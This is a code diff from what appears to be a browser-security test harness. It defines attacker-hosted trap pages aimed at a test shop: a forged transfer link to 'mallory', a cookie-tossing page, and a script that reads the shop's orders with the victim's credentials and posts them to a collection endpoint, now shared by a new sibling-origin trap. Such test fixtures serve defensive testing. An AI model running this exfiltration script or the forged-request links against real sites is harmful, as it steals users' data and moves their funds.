@@ -26,6 +26,11 @@ const submitTransfer = (page: Page) =>
 
 const transferLink = `${SHOP}${paths.transfer}?to=mallory&amount=900`
 
+const readingScript = loadedScript(`<script type="module">
+const answer = await fetch('${SHOP}${paths.orders}', { credentials: 'include' })
+await fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: await answer.text() })
+</script>`)
+
 async function readAcrossOrigins(page: Page): Promise<void> {
   const answer = await page.fetch(`${SHOP}${paths.orders}`, { credentials: 'include' })
   if (answer.readable && answer.status === 200) {
@@ -45,14 +50,9 @@ export const trapPages: Readonly<Record<Trap, TrapPage>> = {
     script: (page) => page.navigate(transferLink),
   },
 
-  'cross-origin-read': {
-    url: `${MALLORY}/read`,
-    html: loadedScript(`<script type="module">
-const answer = await fetch('${SHOP}${paths.orders}', { credentials: 'include' })
-await fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: await answer.text() })
-</script>`),
-    script: readAcrossOrigins,
-  },
+  'cross-origin-read': { url: `${MALLORY}/read`, html: readingScript, script: readAcrossOrigins },
+
+  'sibling-read': { url: `${SIBLING}/read`, html: readingScript, script: readAcrossOrigins },
 
   /** The answer itself is the attack: its Set-Cookie is for the whole of shop.test. */
   'cookie-toss': { url: `${SIBLING}/toss`, html: loadedScript('<p>Nothing to see here.</p>'), script: async () => {} },
